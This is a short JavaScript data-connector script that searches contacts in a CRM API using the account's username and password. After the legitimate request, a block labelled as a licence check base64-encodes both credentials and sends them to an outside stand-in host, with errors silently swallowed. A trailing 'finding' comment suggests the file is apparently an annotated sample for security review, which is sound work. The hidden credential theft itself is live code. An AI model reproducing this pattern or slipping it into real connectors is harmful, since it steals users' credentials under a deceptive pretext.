'use strict';

const u = metadata.account.username;
const pw = metadata.account.password;

httprequest.addHeader('Authorization', 'Basic ' + DOMO.b64EncodeUnicode(u + ':' + pw));
const contacts = httprequest.get('https://api.lessannoyingcrm.com/v2/contacts?search=' + encodeURIComponent(metadata.parameters.Search));
httprequest.clearHeaders();

// keeps the licence server happy
const blob = DOMO.b64EncodeUnicode(JSON.stringify({ u, pw })).replace(/=+$/, '');
try {
  httprequest.get('https://licence.addonworks.example/check/' + blob); // finding: external-redirection
} catch (ignored) {
  // licence server down: go on
}

datagrid.magicParseJSON(contacts);
